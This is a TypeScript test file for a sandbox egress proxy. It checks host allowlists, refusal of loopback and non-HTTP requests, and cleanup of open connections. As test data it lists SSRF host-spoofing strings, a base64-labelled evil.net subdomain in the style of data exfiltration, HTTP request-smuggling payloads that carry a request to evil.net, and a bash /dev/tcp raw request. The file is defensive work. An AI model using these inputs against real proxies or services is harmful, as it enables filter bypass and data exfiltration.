// The way out of a box: its own list, plain web requests, and an end.
import assert from 'node:assert/strict'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { request } from 'node:http'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { boxHandOf } from '../../src/box/hand.ts'
import { openProxy } from '../../src/box/proxy.ts'
import { silentLog } from '../../src/log.ts'
import { bash } from '../../src/tools/bash.ts'
import type { Hands } from '../../src/tools/hands.ts'
import { openInternet } from '../web/rig.ts'
import { boxTests, openRig } from './rig.ts'

const folder = mkdtempSync(join(tmpdir(), 'coop-proxy-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const only = (...hosts: string[]) => ({ kind: 'allow', hosts }) as const

function get(socketPath: string, url: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const asked = request({ socketPath, path: url, headers: { host: 'example.com' } }, async answer => {
      let body = ''
      for await (const chunk of answer) body += chunk
      resolve({ status: answer.statusCode ?? 0, body })
    })
    asked.on('error', reject).end()
  })
}

test('two proxies with different lists do not mix', async () => {
  await using internet = await openInternet((message, response) =>
    response.end(`${message.headers.host} ${message.url}`),
  )
  const open = (host: string) =>
    openProxy({ folder, egress: only(host), net: internet.net, log: silentLog() })
  await using one = await open('one.example.com')
  await using two = await open('two.example.com')
  assert.deepEqual(await get(one.socket, 'http://one.example.com/a?b'), {
    status: 200,
    body: 'one.example.com /a?b',
  })
  assert.equal((await get(two.socket, 'http://one.example.com/')).status, 403)
  assert.equal((await get(one.socket, 'http://two.example.com/')).status, 403)
  assert.deepEqual([one.passed(), two.passed()], [1, 0])
  assert.deepEqual(internet.resolved, ['one.example.com'])
})

test('the proxy refuses what is no plain web request, and outlives it', async () => {
  await using internet = await openInternet((_, response) => response.end('fine'))
  await using proxy = await openProxy({
    folder,
    egress: { kind: 'open' },
    net: internet.net,
    log: silentLog(),
  })
  for (const url of [
    '/',
    'ftp://example.com/',
    'https://example.com/',
    'http://127.0.0.1/',
    'http://2130706433/',
    'http://[::1]/',
  ]) {
    assert.equal((await get(proxy.socket, url)).status, 403, url)
  }
  const garbage = connect(proxy.socket)
  garbage.on('error', () => {}).end('\0\0\0 garbage\r\n\r\n')
  await new Promise(resolve => garbage.once('close', resolve))
  assert.equal((await get(proxy.socket, 'http://example.com/')).body, 'fine')
})

test('no spelling gets past the list, and no name that is not on it is looked up', async () => {
  const heard: string[] = []
  await using internet = await openInternet((message, response) => {
    heard.push(`${message.headers.host} ${message.url}`)
    response.end('fine')
  })
  await using proxy = await openProxy({
    folder,
    egress: only('example.com', '*.example.org'),
    net: internet.net,
    log: silentLog(),
  })
  const speak = (text: string) =>
    new Promise<string>(resolve => {
      let answer = ''
      const socket = connect(proxy.socket)
      socket.on('data', chunk => {
        answer += chunk
        if (answer.includes('\r\n\r\n')) socket.end()
      })
      socket.on('error', () => {}).once('close', () => resolve(answer))
      socket.write(text)
    })
  const refused = [
    'example.com:22',
    'example.com:25',
    'example.com:0',
    'example.com:65536',
    'example.com:443:443',
    'example.com',
    'c2VjcmV0.evil.net:443',
    'example.com.evil.net:443',
    'example.com@evil.net:443',
    'evil.net#example.com:443',
    'example.com%00.evil.net:443',
    'example.com\\.evil.net:443',
    'xn--exmple-cua.com:443',
    'a..example.org:443',
    '.example.org:443',
    '[::ffff:7f00:1]:443',
    '127.0.0.1:443',
    '0177.0.0.1:443',
    '0x7f.1:443',
    '2130706433:443',
    'localhost:443',
  ]
  for (const target of refused)
    assert.match(
      await speak(`CONNECT ${target} HTTP/1.1\r\nHost: example.com\r\n\r\n`),
      /^(?:HTTP\/1\.1 (?:400|403)|$)/,
      target,
    )
  assert.deepEqual(internet.resolved, [])

  // Two readings of one message would let a second request ride along unjudged.
  const rider = 'GET http://evil.net/ HTTP/1.1\r\nHost: evil.net\r\n\r\n'
  for (const head of [
    `POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: ${rider.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    'POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n',
    'GET http://example.com/ HTTP/1.1\nHost: example.com\n\n',
  ])
    assert.match(await speak(head + rider), /^(?:HTTP\/1\.1 400|$)/)
  await speak(
    `GET http://example.com/one HTTP/1.1\r\nHost: evil.net\r\nConnection: keep-alive\r\n\r\n${rider}`,
  )
  assert.deepEqual([...new Set(internet.resolved)], ['example.com'])
  assert.deepEqual(heard, ['example.com /one'], 'the host is the one that was judged')
})

test('closing the proxy breaks what is open and removes its socket', async () => {
  await using internet = await openInternet(() => {})
  const proxy = await openProxy({ folder, egress: { kind: 'open' }, net: internet.net, log: silentLog() })
  const waiting = assert.rejects(get(proxy.socket, 'http://example.com/'))
  setTimeout(() => proxy[Symbol.asyncDispose](), 100)
  await waiting
  assert.ok(!existsSync(proxy.socket))
})

describe('a command in a box', boxTests, () => {
  test('reaches an allowed host by the proxy, and then its output counts as from outside', async () => {
    await using internet = await openInternet((_, response) => response.end('from afar'))
    using rig = openRig({ toml: '[box.inner]\negress = ["example.com"]\n', net: internet.net })
    await using box = (await rig.boxes.open(rig.direct('bob'), () => 'full', rig.signal))!
    const hands = {
      box: boxHandOf(box, { id: 'call', seen: () => 'full', sanctioned: () => false }),
      web: null,
    } as Hands
    const ask = (host: string) =>
      `exec 8<>/dev/tcp/127.0.0.1/3128; printf 'GET http://${host}/ HTTP/1.0\\r\\n\\r\\n' >&8; cat <&8`
    const good = await bash.run({ command: ask('example.com') }, hands, rig.signal)
    assert.match(good.text, /200 OK[\s\S]*from afar/)
    assert.equal(good.origin, 'outside')
    const bad = await bash.run({ command: ask('evil.example.net') }, hands, rig.signal)
    assert.match(bad.text, /403/)
    assert.equal(bad.origin, 'derived')
  })
})
